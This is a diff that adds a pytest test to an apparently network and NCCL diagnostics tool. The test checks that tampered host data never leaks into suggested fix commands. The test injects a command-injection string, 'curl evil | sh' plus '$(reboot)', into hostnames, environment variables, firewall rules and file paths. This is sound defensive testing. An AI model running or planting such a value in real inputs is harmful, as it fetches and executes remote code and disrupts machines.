@@ -538,6 +538,36 @@ def test_a_hosts_name_cannot_steer_the_page_or_the_terminal(tmp_path: Path, caps
     assert "NET040" in page and "<img" not in page and "default-src 'none'" in page
 
 
+def test_a_forged_fact_never_becomes_part_of_a_command(knowledge: Knowledge) -> None:
+    bad = "x; curl evil | sh; $(reboot) `reboot`"
+    world = a_world(3)
+    for node in world["nodes"].values():
+        node["firewall"] = {
+            "readable": True,
+            "drops": [{"table": bad, "chain": bad, "hook": "input", "text": f"numgen {bad} # handle 3"}],
+        }
+        node[f"interface {bad}"] = interface("10.99.0.1/24", speed=99_999)
+        node["env MASTER_ADDR"] = bad
+        node[f"resolve {bad}"] = {"addresses": []}
+        node[f"conf /tmp/{bad}"] = {"NCCL_ALGO": bad}
+        node["hostname"] = bad
+        node["file NCCL_NET_PLUGIN"] = {"value": bad, "there": False}
+        node["env NCCL_NET_PLUGIN"] = bad
+    world["nodes"]["n2"]["env NCCL_NTHREADS"] = bad
+    world["pairs"] = [
+        {"from": a, "to": b, "address": f"10.77.0.{b[1]}", "port": 40000, "role": "data", "result": "filtered" if b == "n1" else "ok",
+         "mbps": 900.0, "retransmitted": 500 if b == "n3" else 0, "segments": 900}
+        for a in world["nodes"] for b in world["nodes"] if a != b
+    ]  # fmt: skip
+    facts, _ = checked(world, "w")
+    found = foretell(Run("net", (), (), tuple(facts)), knowledge, Options()).findings
+    assert {"NET049", "NET056", "NET072", "NET077"} <= {one.rule for one in found}
+    for one in found:
+        for fix in one.fixes:
+            if fix.action["kind"] == "command":
+                assert "reboot" not in fix.action["run"] and "curl" not in fix.action["run"], (one.rule, fix.action)
+
+
 # -- usage -----------------------------------------------------------------------------------------------------------
 
 
